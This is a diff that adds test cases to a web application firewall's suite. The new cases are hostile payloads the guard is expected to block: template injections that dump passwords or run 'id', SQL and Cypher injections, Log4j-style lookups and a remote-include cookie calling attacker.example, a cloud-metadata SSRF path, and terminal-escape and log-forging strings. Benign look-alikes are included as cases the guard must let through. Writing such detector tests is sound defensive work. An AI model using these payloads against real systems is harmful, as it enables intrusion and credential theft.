@@ -910,6 +910,58 @@ def test_sqli_reads_each_bracketed_part_of_a_parameter_name(guard: WAFGuard) -> 
         assert verdict_of(guard, request(query=query)) is None, query
 
 
+@pytest.mark.parametrize(
+    "value",
+    [
+        "guest\x1b[1A\x1b[2K\x1b[32m[OK]\x1b[0m admin logged in from 10.0.0.5",  # cursor up, erase line
+        "user\x1b]2;pwned\x07\x1b[2J",  # a window title, a cleared screen
+        "{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{ e.user.password }}{% endfor %}",
+        '{{"/etc/passwd"|file_excerpt(1,30)}}',
+        "{if passthru(implode('',['i','d']))}{/if}",
+        "${dns:address|attacker.example}",
+        "${url:UTF-8:http://attacker.example/t4s}",
+        '{{ plugin "/bin/sh" "-c" "id" }}',
+        'eval pack("H*","73797374656d2822696422293b")',
+        "x' RETURN n UNION MATCH (u:User) RETURN u.password AS name //",
+        "x', (SELECT password FROM users LIMIT 1))-- -",
+        "The quarterly numbers look fine overall, with a small dip we expected. " * 5 + "$(sleep 10)",
+        'order 4411\r\n127.0.0.1 - admin [07/Dec/2026:11:00:00 +0000] "GET /admin/export HTTP/1.1" 200 5120',
+        "Payment ok\n[2026-12-07T10:00:00Z] WARN admin password reset for uid=1 by system",
+    ],
+)
+def test_the_thirteenth_blind_sets_techniques_are_refused(guard: WAFGuard, value: str) -> None:
+    """Each a technique the thirteenth blind set found missing, in a JSON body (its rows' placement)."""
+    body = json.dumps({"note": value})
+    assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json")) is not None
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "\x1b[32mPASS\x1b[0m 12 tests",  # a CI log's colours
+        "{% load static %}<img src=\"{% static 'logo.png' %}\">",
+        'services:\n  api:\n    command: ["sh", "-c", "npm run migrate && npm start"]\n',
+        "The job failed\nERROR: disk full",
+        "Build log:\n2026-12-07 10:00:01 INFO start",
+        "Robert'); drop-in replacement.docx",
+        "it's, (select one) fine",
+    ],
+)
+def test_what_the_thirteenth_sets_techniques_leave_alone(guard: WAFGuard, value: str) -> None:
+    body = json.dumps({"note": value})
+    assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json")) is None
+
+
+def test_a_metadata_host_as_a_path_segment_and_an_include_cookie_are_refused(guard: WAFGuard) -> None:
+    """`/img-resize/300x200/169.254.169.254/latest/meta-data/`: a resizer or a proxy routed by path
+    fetches it. `lang=http://...` as a cookie is PHP's include($_COOKIE['lang']); a cookie that keeps
+    the last page visited is a site's own."""
+    assert verdict_of(guard, request(path="/img-resize/300x200/169.254.169.254/latest/meta-data/"))
+    assert verdict_of(guard, request(path="/api/hosts/10.0.0.1/status")) is None
+    assert verdict_of(guard, request(headers=[("cookie", "lang=http://attacker.example/lang/en")]))
+    assert verdict_of(guard, request(headers=[("cookie", "last_page=https://shop.example.com/cart?items=3")])) is None
+
+
 def test_a_json_string_holding_a_nul_leaves_the_glance(guard: WAFGuard) -> None:
     """Parsed, `\\u0000` is a NUL, which in the glance's joined text passed for the separator between
     two strings: the address cut by it was never read cut (found by a blind set's miss)."""
